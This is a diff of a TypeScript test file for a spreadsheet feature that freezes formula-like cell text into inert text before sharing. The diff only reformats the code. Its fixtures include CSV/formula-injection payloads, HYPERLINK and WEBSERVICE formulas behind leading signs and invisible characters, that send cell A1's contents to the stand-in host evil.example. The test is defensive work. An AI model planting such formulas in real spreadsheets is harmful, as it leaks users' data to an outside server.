@@ -10,7 +10,9 @@ import { FakeWorkbook } from "./workbook-fake";
  */
 const SIGNS = ["=", "+", "-", "@"];
 const BEFORE = ["", "\t", "\r", " ", "\u00a0", "\u0000"];
-const HOSTILE = BEFORE.flatMap((lead) => SIGNS.map((sign) => `${lead}${sign}HYPERLINK("http://evil.example/?"&A1,"open")`));
+const HOSTILE = BEFORE.flatMap((lead) =>
+  SIGNS.map((sign) => `${lead}${sign}HYPERLINK("http://evil.example/?"&A1,"open")`),
+);
 const LOOKALIKES = ["1.5", "-2", "2025-01-06", "TRUE", "#N/A", "'quoted", "=1+1", "+44 20 7946 0000"];
 const TEXTS = [...HOSTILE, ...LOOKALIKES];
 
@@ -34,19 +36,21 @@ test("every text the cells show is still that exact text after freezing, and not
 
   expect(outcome.frozen).toBe(TEXTS.length);
   expect(book.liveFormulas()).toEqual({});
-  TEXTS.forEach((text, row) => expect([row, book.read("Sheet1", row, 1)]).toEqual([row, expect.objectContaining({ value: text })]));
+  TEXTS.forEach((text, row) =>
+    expect([row, book.read("Sheet1", row, 1)]).toEqual([row, expect.objectContaining({ value: text })]),
+  );
 });
 
 test("service text in the receipt (a status as publication mode, an error message) stays text too", async () => {
   const book = await sheetOfTexts();
   const options = deskFreezeOptions({
     scope: "sheet",
-    provenanceOf: () => ({ asOf: "2025-01-06", publicationMode: "=WEBSERVICE(\"http://evil.example/\"&A1)" }),
-    errorOf: () => "-HYPERLINK(\"http://evil.example\")",
+    provenanceOf: () => ({ asOf: "2025-01-06", publicationMode: '=WEBSERVICE("http://evil.example/"&A1)' }),
+    errorOf: () => '-HYPERLINK("http://evil.example")',
   });
   await freezeForSharing(book.context, options);
   expect(book.liveFormulas()).toEqual({});
   const receipt = book.usedValues(RECEIPT_SHEET);
   expect(receipt.slice(1).map((row) => row[4])).toEqual(TEXTS.map(() => "2025-01-06"));
-  expect(receipt.slice(1).map((row) => row[5])).toEqual(TEXTS.map(() => "=WEBSERVICE(\"http://evil.example/\"&A1)"));
+  expect(receipt.slice(1).map((row) => row[5])).toEqual(TEXTS.map(() => '=WEBSERVICE("http://evil.example/"&A1)'));
 });
